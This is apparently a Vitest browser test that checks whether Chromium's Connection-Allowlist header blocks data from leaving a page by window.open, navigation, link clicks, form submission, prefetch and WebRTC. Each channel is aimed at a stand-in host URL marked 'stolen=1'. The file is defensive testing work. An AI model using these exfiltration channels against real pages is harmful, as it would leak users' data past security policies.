/** If the browser supports it, data cannot leave in ways that a Content-Security-Policy does not govern. */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { PageBrowser } from './helpers/page_browser.ts';

const ELSEWHERE = 'http://elsewhere.example/?stolen=1';
/** The first Chromium with Connection-Allowlist. */
const KNOWS_THE_HEADER = 152;

let browser: PageBrowser;

beforeAll(async () => {
  browser = await PageBrowser.open();
});

afterAll(() => browser?.close());

it('a new window, a navigation, a link, a form and a prefetch reach no other machine', async ({ skip }) => {
  const version = Number.parseInt(browser.context.browser()?.version() ?? '', 10);
  if (version < KNOWS_THE_HEADER) skip(`Chromium ${version} does not know the header yet.`);
  const ways: Record<string, (address: string) => void> = {
    window: (address) => void window.open(address),
    navigation: (address) => {
      location.href = address;
    },
    link: (address) => {
      const link = document.createElement('a');
      link.href = address;
      document.body.append(link);
      link.click();
    },
    form: (address) => {
      const form = document.createElement('form');
      form.action = address;
      document.body.append(form);
      form.submit();
    },
    prefetch: (address) => {
      const link = document.createElement('link');
      link.rel = 'prefetch';
      link.href = address;
      document.head.append(link);
    },
  };
  for (const [name, way] of Object.entries(ways)) {
    const page = await browser.newPage();
    await page.evaluate(way, ELSEWHERE);
    // The browser sends the request, or refuses it, before this returns.
    await page.waitForTimeout(500);
    expect(
      browser.foreignRequests.filter((address) => !browser.requests.includes(address)),
      name,
    ).toEqual([]);
    await page.close();
  }
});

it('WebRTC connects nothing', async ({ skip }) => {
  const version = Number.parseInt(browser.context.browser()?.version() ?? '', 10);
  if (version < KNOWS_THE_HEADER) skip(`Chromium ${version} does not know the header yet.`);
  const page = await browser.newPage();
  const state = await page.evaluate(async () => {
    const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
    here.createDataChannel('out');
    here.onicecandidate = ({ candidate }) => void there.addIceCandidate(candidate ?? undefined);
    there.onicecandidate = ({ candidate }) => void here.addIceCandidate(candidate ?? undefined);
    await here.setLocalDescription();
    await there.setRemoteDescription(here.localDescription!);
    await there.setLocalDescription();
    await here.setRemoteDescription(there.localDescription!);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    return here.connectionState;
  });
  expect(state).not.toBe('connected');
  await page.close();
});
